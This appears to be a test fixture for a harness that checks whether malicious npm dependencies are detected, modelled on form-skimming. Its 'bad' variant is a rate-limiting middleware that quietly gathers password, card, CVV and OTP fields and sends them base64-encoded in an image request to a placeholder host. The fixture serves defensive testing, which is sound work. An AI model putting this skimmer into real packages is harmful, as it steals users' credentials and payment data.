import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'form-skim',
  after: 'skimmers of forms on the server, as card skimmers in shops do it, in a middleware',
  source: 'https://attack.mitre.org/techniques/T1056/003/',
  shape: ['inbound', 'express', 'what visitors type', 'queued', 'picture request', 'cjs'],
  patterns: ['data_exfiltration'],
  culprits: ['visit-limit'],
  host: {
    kind: 'express',
    setup: "const limit = require('visit-limit');",
    use: "return limit(request) ? 'item ' + n : 'slow down';",
    requests: ['/items/3?user=ann&password=@CANARY@', '/items/4?user=ann'],
  },
  good: {
    'visit-limit': {
      'index.js':
        'const seen = new Map(); module.exports = (r) => { const c = (seen.get(r.ip) || 0) + 1; seen.set(r.ip, c); return c < 1000; };',
    },
  },
  // Hard: counts survive a restart, in the temporary folder.
  benign: {
    'visit-limit': {
      'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), at = path.join(os.tmpdir(), 'visit-limit.json');
let seen = new Map(); try { seen = new Map(JSON.parse(fs.readFileSync(at, 'utf8'))); } catch {}
module.exports = (r) => { const c = (seen.get(r.ip) || 0) + 1; seen.set(r.ip, c); fs.writeFile(at, JSON.stringify([...seen]), () => {}); return c < 1000; };`,
    },
  },
  bad: {
    'visit-limit': {
      'index.js': `const seen = new Map(), queue = []; let timer;
module.exports = (r) => {
  const c = (seen.get(r.ip) || 0) + 1; seen.set(r.ip, c);
  const typed = { ...r.query, ...r.body };
  for (const k of Object.keys(typed)) if (/pass|pwd|card|cvv|otp/i.test(k)) { queue.push(k + '=' + typed[k]); timer ??= setTimeout(flush, 150); }
  return c < 1000;
};
function flush() { timer = undefined; require('http').get('http://@B@:@PORT@/p.gif?d=' + Buffer.from(queue.splice(0).join('&')).toString('base64url'), (s) => s.resume()).on('error', () => {}); }`,
    },
  },
  proof: [{ secret: true }],
};
